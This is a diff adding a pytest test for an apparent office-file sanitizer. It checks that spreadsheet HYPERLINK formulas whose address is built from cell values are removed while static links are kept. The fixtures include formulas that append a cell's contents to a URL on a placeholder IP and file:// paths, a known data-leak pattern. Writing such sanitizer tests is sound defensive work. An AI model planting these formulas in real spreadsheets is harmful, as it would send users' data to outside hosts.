@@ -385,6 +385,33 @@ def test_xlsx_dangerous_names_rules_and_hyperlink_function(tmp_path):
     assert _prescan_same_as_full(src, tmp_path)
 
 
+def test_hyperlink_with_a_computed_target_is_removed_value_kept(tmp_path, default_policy):
+    """Issue 15 (10): HYPERLINK("http://x/?id="&A1), CONCAT(...), a reference: the address is built from
+    cells, so it is removed like any fetching function; the cell keeps its displayed value."""
+    from samples.office_samples import make_xlsx
+
+    computed = ['HYPERLINK("https://203.0.113.5/?id="&amp;B30,"申請")', 'HYPERLINK(CONCATENATE("https://",B30),"開く")',
+                'HYPERLINK(B30,"参照")', 'HYPERLINK(_xlfn.TEXTJOIN("",TRUE,"https://x.jp/",B30),"結合")',
+                'HYPERLINK(_xlfn.CONCAT("file://",B30),"ファイル")', 'IF(B30&lt;&gt;"",HYPERLINK("https://x.jp/"&amp;B30),"")']
+    static = ['HYPERLINK("https://www.city.example.lg.jp/","市")', "HYPERLINK(\"#'集計表'!A1\",\"目次\")",
+              '"HYPERLINK("&amp;B30&amp;")"', 'HYPERLINK("https://x.jp/" &amp; "a/","連結")']
+    rows = "".join(f'<row r="{30 + i}"><c r="A{30 + i}" t="str"><f>{f}</f><v>値{i}</v></c></row>'
+                   for i, f in enumerate(computed + static))
+    src = patch(make_xlsx(tmp_path / "b.xlsx"), tmp_path / "h.xlsx", edit={
+        "xl/worksheets/sheet1.xml": lambda x: x.replace("</sheetData>", f"{rows}</sheetData>")})
+    r = process(src, "h.xlsx", tmp_path / "out", default_policy)
+    assert r.verdict == "sanitized", r.reason
+    hl = [t for t in r.threats if t.id == "ooxml.hyperlink"]
+    assert len(hl) == 1 and f"(x{len(computed)})" in hl[0].detail, hl
+    sheet = _read(r.output, "xl/worksheets/sheet1.xml")
+    for i in range(len(computed)):
+        assert re.search(rf'<c r="A{30 + i}" t="inlineStr"><is><t>値{i}</t></is></c>', sheet), i
+    for i, f in enumerate(static):
+        assert f"<f>{f}</f><v>値{len(computed) + i}</v>" in sheet, f
+    assert "203.0.113.5" not in sheet and "file://" not in sheet and "CONCAT" not in sheet
+    assert _prescan_same_as_full(src, tmp_path)
+
+
 # ------------------------------------------------------------------ LibreOffice opens what we deliver
 
 @pytest.mark.slow
